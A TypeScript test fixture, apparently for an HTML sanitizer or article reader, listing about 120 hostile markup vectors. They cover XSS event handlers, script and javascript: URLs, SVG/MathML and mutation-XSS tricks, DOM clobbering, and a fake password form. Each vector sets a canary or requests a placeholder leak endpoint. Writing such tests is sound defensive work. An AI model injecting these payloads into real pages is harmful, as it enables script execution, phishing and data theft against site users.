/**
 * Hostile markup of our own, by family: what a page may put into an article so that it runs, asks or imitates when
 * the article is shown. RUN sets the canary, `{{SERVER}}` counts what is asked for.
 */
export const CANARY = '__pwned';
const RUN = `window.${CANARY}=1`;
const LEAK = '{{SERVER}}/leak';
/** A letter that does not show, in the scheme. */
const TAB = '&#9;';

const FAMILIES: Record<string, string[]> = {
  'event handlers': [
    `<img src="/missing" onerror="${RUN}">`,
    `<img src=/missing onerror=${RUN}//`,
    `<p onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex="0">text</p>`,
    `<details open ontoggle="${RUN}"><summary>s</summary>d</details>`,
    `<div style="animation:x 1s" onanimationstart="${RUN}">a</div><style>@keyframes x{from{left:0}}</style>`,
    `<video><source src="/missing" onerror="${RUN}"></video>`,
    `<audio src="/missing" onerror="${RUN}" autoplay></audio>`,
    `<marquee onstart="${RUN}">m</marquee>`,
    `<input autofocus onfocus="${RUN}">`,
    `<x-own onpointerenter="${RUN}" onclick="${RUN}">own</x-own>`,
    `<p/onclick="${RUN}"/oncopy='${RUN}'>slashes</p>`,
    `<p a="<" onmouseenter="${RUN}" b=">">angle</p>`,
    `<body onload="${RUN}" onhashchange="${RUN}"><p>body</p>`,
    `<div oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto">c</div>`,
    `<dialog open onclose="${RUN}"><form method="dialog"><button>x</button></form></dialog>`,
    `<button popovertarget="p">o</button><div popover id="p" onbeforetoggle="${RUN}">pop</div>`,
  ],
  'script elements': [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC="${LEAK}/s.js"></SCRIPT>`,
    `<script type="module">${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script >`,
    `<noscript><script>${RUN}</script></noscript>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  ],
  'script addresses': [
    `<a href="javascript:${RUN}">t0</a>`,
    `<a href="java${TAB}script:${RUN}">t1</a>`,
    `<a href="&#1; javascript:${RUN}">t2</a>`,
    `<a href="JaVaScRiPt&colon;${RUN}">t3</a>`,
    `<a href="java&NewLine;script&colon;${RUN}">t4</a>`,
    `<a href="vbscript:msgbox(1)">t5</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">t6</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLl9fcHduZWQ9MTwvc2NyaXB0Pg==">t7</a>`,
    `<a href="blob:null/1">t8</a><a href="filesystem:x">f</a><a href="file:///etc/passwd">g</a>`,
    `<a href="chrome-extension://aaaa/options.html#/delete">t9</a><a href="moz-extension://a/">m</a>`,
    `<a href="view-source:http://a.example/">v</a><a href="about:blank">ab</a><a href="intent://x">i</a>`,
    `<iframe src="javascript:parent.${CANARY}=1"></iframe>`,
    `<form action="javascript:${RUN}"><button>f</button></form>`,
    `<form><button formaction="javascript:${RUN}">fa</button></form>`,
    `<embed src="javascript:${RUN}"><object data="javascript:${RUN}"></object>`,
    `<a href="https://a.example/" ping="${LEAK}/ping">ping</a>`,
    `<map name="m"><area shape="default" href="javascript:${RUN}"></map><img usemap="#m" src="/missing">`,
    `<blockquote cite="javascript:${RUN}">c</blockquote><q cite="data:text/html,x">q</q>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y="20">svg</text></a></svg>`,
    `<math><mtext href="javascript:${RUN}">m</mtext></math>`,
    `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  ],
  'svg and mathml': [
    `<svg onload="${RUN}"><circle r="9"/></svg>`,
    `<svg><animate attributeName="href" values="javascript:${RUN}" onbegin="${RUN}"/></svg>`,
    `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
    `<svg><a id="l"><set attributeName="href" to="javascript:${RUN}"/><text y="20">l</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
    `<svg><image href="${LEAK}/i.svg"/><feImage href="${LEAK}/fe"/></svg>`,
    `<svg><foreignObject><img src="/missing" onerror="${RUN}"></foreignObject></svg>`,
    `<svg><desc><img src="/missing" onerror="${RUN}"></desc></svg>`,
    `<svg><title><style><img src="/missing" onerror="${RUN}"></style></title></svg>`,
    `<svg><style>*{fill:url(${LEAK}/fill)}</style><rect width="9" height="9"/></svg>`,
    `<math><annotation-xml encoding="text/html"><img src="/missing" onerror="${RUN}"></annotation-xml></math>`,
    `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>"></math>`,
    `<math><semantics><annotation-xml><p><script>${RUN}</script></p></annotation-xml></semantics></math>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`,
  ],
  'mutation on parsing twice': [
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
    `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
    `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
    `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
    `<table><caption><svg><title><table><caption></table><img src=x onerror=${RUN}></title></svg></caption></table>`,
    `<a><svg><a><style></a><img src=x onerror=${RUN}></style></svg></a>`,
    `<!--><img src=x onerror=${RUN}>--><!--!><img src=x onerror=${RUN}>--!>`,
    `<![CDATA[<img src=x onerror=${RUN}>]]><svg><![CDATA[</svg><img src=x onerror=${RUN}>]]></svg>`,
    `<?xml-stylesheet ><img src=x onerror=${RUN}> ?>`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<select><option><img src=x onerror=${RUN}><template><style></select></template></style></select>`,
    `<pre>\n\n\n<b>\n<img src=x onerror=${RUN}></b></pre>`,
    `<p id="\`\`onmouseover=${RUN}//">\`\`</p>`,
    `<div title="&lt;img src=x onerror=${RUN}&gt;">&lt;img src=x onerror=${RUN}&gt;</div>`,
    `<template><template><img src=x onerror=${RUN}></template></template>`,
    `<template shadowrootmode="open"><img src=x onerror=${RUN}><slot></slot></template>`,
    `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  ],
  'style and CSS': [
    `<p style="background:url(${LEAK}/bg)">s</p>`,
    `<p style="position:fixed;inset:0;z-index:9;background:red">over all</p>`,
    `<style>@import "${LEAK}/import.css";p{background:url(${LEAK}/rule)}</style>`,
    `<style>@font-face{font-family:x;src:url(${LEAK}/font)}p{font-family:x}</style>`,
    `<link rel="stylesheet" href="${LEAK}/style.css"><link rel="prefetch" href="${LEAK}/prefetch">`,
    `<link rel="preload" as="image" href="${LEAK}/preload"><link rel="dns-prefetch" href="//leak.example">`,
    `<table background="${LEAK}/table"><tr><td background="${LEAK}/cell">1</td></tr></table>`,
    `<p style="width:expression(${RUN});-moz-binding:url(${LEAK}/x)">old</p>`,
    `<li style="list-style-image:url('${LEAK}/li')">li</li>`,
    `<style><style></style><img src=x onerror=${RUN}></style>`,
  ],
  'names that shadow': [
    `<form id="x"><input name="attributes"><input name="parentNode"><input name="nodeName"></form>`,
    `<form><input name="removeChild"><input name="childNodes"><p onclick="${RUN}">c</p></form>`,
    `<img name="createElement"><img name="implementation"><img id="body"><a id="documentElement">d</a>`,
    `<a id="${CANARY}x"></a><a id="${CANARY}x" name="y" href="https://a.example">z</a>`,
    `<form id="createDocumentFragment"><output id="cookie">o</output></form><object id="defaultView"></object>`,
    `<p id="app">own id</p><p class="library toast popup">own class</p><p data-refusal="x">own data</p>`,
  ],
  'frames and objects': [
    `<iframe srcdoc="<script>parent.${CANARY}=1</script>" title="//www.youtube.com/embed/a"></iframe>`,
    `<iframe src="${LEAK}/frame?x=//www.youtube.com/embed/a"></iframe>`,
    `<object data="${LEAK}/object"><param name="movie" value="${LEAK}/param"></object>`,
    `<embed src="${LEAK}/embed" type="text/html">`,
    `<frameset><frame src="${LEAK}/frameset"></frameset>`,
    `<portal src="${LEAK}/portal"></portal><fencedframe></fencedframe><webview src="${LEAK}/w"></webview>`,
    `<applet code="x" codebase="${LEAK}/applet"></applet><isindex action="javascript:${RUN}">`,
  ],
  forms: [
    `<form action="${LEAK}/form" method="post"><input type="password" name="p"><button>Sign in</button></form>`,
    `<button form="x" formaction="${LEAK}/fa">b</button><form id="x"></form>`,
    `<input type="image" src="${LEAK}/inputimage"><input type="submit" value="s">`,
    `<select autofocus onfocus="${RUN}"><option>o</option></select><textarea autofocus></textarea>`,
    `<label for="save">label</label><fieldset><legend>l</legend></fieldset><keygen>`,
    `<p contenteditable="true" autofocus onfocus="${RUN}">edit</p>`,
  ],
  'meta and base': [
    `<base href="${LEAK}/base/"><img src="relative.png"><a href="rel">rel</a>`,
    `<meta http-equiv="refresh" content="0;url=${LEAK}/refresh">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta charset="utf-7">+ADw-script+AD4-`,
    `<meta name="referrer" content="unsafe-url"><base target="_top">`,
    `<a href="https://a.example/" target="_top" rel="opener">top</a>`,
    `<html manifest="${LEAK}/manifest"><head profile="${LEAK}/profile">`,
  ],
  'media that asks': [
    `<img src="${LEAK}/img" srcset="${LEAK}/srcset 2x" lowsrc="${LEAK}/low" dynsrc="${LEAK}/dyn">`,
    `<picture><source srcset="${LEAK}/picture"><img src="/missing" loading="lazy"></picture>`,
    `<video poster="${LEAK}/poster" src="${LEAK}/video" autoplay><track default src="${LEAK}/track"></video>`,
    `<audio autoplay src="${LEAK}/audio"></audio><bgsound src="${LEAK}/bgsound">`,
    `<img data-src="${LEAK}/lazy.png" class="lazyload"><image src="${LEAK}/image"></image>`,
    `<input type="image" src="${LEAK}/it"><body background="${LEAK}/body">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<p longdesc="${LEAK}/long" attributionsrc="${LEAK}/attribution">a</p><img attributionsrc="${LEAK}/as">`,
    `<model src="${LEAK}/model"></model><svg><filter><feImage xlink:href="${LEAK}/xl"/></filter></svg>`,
  ],
};

export interface Vector {
  family: string;
  html: string;
}

/** Every vector with its family. */
export const vectors: Vector[] = Object.entries(FAMILIES).flatMap(([family, list]) =>
  list.map((html) => ({ family, html })),
);

const PROSE =
  '<p>The harbour handled 4,200 containers in May, 12% more than a year before, the port office said on Monday. ' +
  'Its two cranes worked through the night, and the queue of ships fell from nine to three.</p>';

/** A page whose article holds the vector, so that it goes the whole way of a page that is read. */
export function pageWith({ html }: Vector): string {
  return `<!doctype html><html lang="en"><head><title>Harbour</title></head><body><article><h1>Harbour handles more</h1>${PROSE.repeat(3)}${html}${PROSE}</article></body></html>`;
}
